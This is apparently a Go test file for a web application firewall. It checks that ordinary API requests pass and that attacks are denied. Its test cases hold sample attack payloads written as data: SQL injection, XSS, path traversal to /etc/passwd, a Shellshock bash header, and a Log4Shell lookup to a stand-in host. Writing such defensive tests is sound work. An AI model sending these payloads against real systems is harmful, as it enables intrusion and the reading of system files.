package waf

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
)

func request(method, uri string, more ...Field) *Request {
	return &Request{
		Method: method, URI: uri, Proto: "HTTP/1.1", Host: "acme.example", Client: netip.MustParseAddr("198.51.100.7"), Tenant: 17, Route: "exports",
		Fields: append([]Field{{"User-Agent", "client/1.0"}, {"Accept", "application/json"}, {"Authorization", "Bearer v1.secret"}}, more...),
	}
}

func json(uri, body string) *Request {
	r := request("POST", uri, Field{"Content-Type", "application/json"}, Field{"Content-Length", "20"})
	r.Body = []byte(body)
	return r
}

// TestLook: what attacks is denied and the usual is not, in every part of a request.
func TestLook(t *testing.T) {
	t.Parallel()
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	second := request("POST", "/v1/projects", Field{"Content-Type", "application/json"})
	second.Proto = "HTTP/2.0"
	for name, tt := range map[string]struct {
		r     *Request
		group string // "" is not denied
	}{
		"a page":                 {request("GET", "/v1/projects?limit=50&cursor=eyJpZCI6MTd9"), ""},
		"under a slug":           {request("GET", "/t/acme/v1/projects/0198c7a1-2b3c-7d4e-8f90-a1b2c3d4e5f6"), ""},
		"a delete":               {request("DELETE", "/v1/projects/1", Field{"If-Match", `"3"`}), ""},
		"a merge patch":          {request("PATCH", "/v1/projects/1", Field{"Content-Type", "application/merge-patch+json"}, Field{"Content-Length", "2"}), ""},
		"a body in words":        {json("/v1/projects", `{"name":"Select the best of O'Neill's plans, and update or drop it"}`), ""},
		"a body over HTTP/2":     {second, ""},
		"too many parameters":    {request("GET", "/v1/projects?"+strings.Repeat("a=1&", 1001)), "unreadable"},
		"a statement in a query": {request("GET", "/v1/projects?q=1%27%20OR%20%271%27=%271%27--"), "sqli"},
		"a script in a query":    {request("GET", "/v1/projects?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss"},
		"a path upwards":         {request("GET", "/v1/files/..%2f..%2f..%2fetc%2fpasswd"), "lfi"},
		"a shell in a header":    {request("GET", "/", Field{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}), "rce"},
		"log4shell":              {request("GET", "/", Field{"X-Api-Version", "${jndi:ldap://evil.example/a}"}), "java"},
		"a scanner":              {request("GET", "/", Field{"User-Agent", "sqlmap/1.7"}), "scanner"},
		"a statement in a body":  {json("/v1/projects", `{"name":"1' UNION SELECT password FROM users--"}`), "sqli"},
		"a body that is cut":     {json("/v1/projects", `{"name":`), "unreadable"},
	} {
		f := e.Look(tt.r)
		if f.Denied != (tt.group != "") {
			t.Errorf("%s: got denied %v by %v", name, f.Denied, f.Rules)
		}
		if tt.group != "" && !slices.ContainsFunc(f.Rules, func(id int) bool { return GroupOf(id) == tt.group }) {
			t.Errorf("%s: got rules %v, want one of %s", name, f.Rules, tt.group)
		}
	}
}

// TestAHeaderThatIsThereTwice: the second value is looked at as the first is,
// whatever the order in which rules come to them.
func TestAHeaderThatIsThereTwice(t *testing.T) {
	t.Parallel()
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	r := request("GET", "/", Field{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"})
	for range 50 {
		if f := e.Look(r); !f.Denied {
			t.Fatal("not denied")
		}
	}
}

// TestExclusions hold for the tenants and routes that they name, and own rules count.
func TestExclusions(t *testing.T) {
	t.Parallel()
	e, err := New(Config{
		Exclude: []Exclusion{{Tags: []string{"attack-sqli"}, Tenants: []int64{17}, Routes: []string{"exports"}}, {Rules: []int{913100}}},
		Rules:   []Text{{"own.conf", `SecRule REQUEST_HEADERS:X-Old "@streq 1" "id:1000,phase:1,deny,log,msg:'old'"`}},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	attack := func() *Request { return request("GET", "/v1/projects?q=1%27%20OR%20%271%27=%271%27--") }
	if f := e.Look(attack()); f.Denied {
		t.Errorf("excluded: denied by %v", f.Rules)
	}
	for name, change := range map[string]func(r *Request){
		"another tenant": func(r *Request) { r.Tenant = 18 },
		"another route":  func(r *Request) { r.Route = "" },
	} {
		r := attack()
		change(r)
		if f := e.Look(r); !f.Denied {
			t.Errorf("%s: not denied", name)
		}
	}
	if f := e.Look(request("GET", "/", Field{"User-Agent", "sqlmap/1.7"})); f.Denied {
		t.Errorf("excluded for all: denied by %v", f.Rules)
	}
	if f := e.Look(request("GET", "/", Field{"X-Old", "1"})); !f.Denied || !slices.Equal(f.Rules, []int{1000}) {
		t.Errorf("own rule: got %+v", f)
	}
}

// TestBadRules: the error is one line and names the file.
func TestBadRules(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{"SecRule", "SecRule ARGS \"@rx (\" \"id:1,phase:2,deny\"", "nonsense\nof two lines", "Include /etc/passwd"} {
		_, err := New(Config{Rules: []Text{{"own.conf", bad}}})
		if err == nil || !strings.Contains(err.Error(), "own.conf") || strings.Contains(err.Error(), "\n") {
			t.Errorf("%q: got %v", bad, err)
		}
	}
}

// TestTokensAreNotLookedAt: a token may hold anything.
func TestTokensAreNotLookedAt(t *testing.T) {
	t.Parallel()
	e, err := New(Config{Rules: []Text{{"own.conf", `SecRule REQUEST_HEADERS "@contains secret" "id:1000,phase:1,deny,log,msg:'seen'"`}}})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	if f := e.Look(request("GET", "/")); f.Denied {
		t.Errorf("the rules saw a token: %v", f.Rules)
	}
}

func BenchmarkLook(b *testing.B) {
	e, err := New(Config{})
	if err != nil {
		b.Fatal(err)
	}
	for name, r := range map[string]*Request{
		"head": request("GET", "/v1/projects?limit=50"),
		"body": json("/v1/projects", `{"name":"`+strings.Repeat("a plan ", 140)+`"}`),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if e.Look(r).Denied {
					b.Fatal("denied")
				}
			}
		})
	}
}

func BenchmarkNew(b *testing.B) {
	for b.Loop() {
		e, err := New(Config{})
		if err != nil {
			b.Fatal(err)
		}
		e.Close()
	}
}
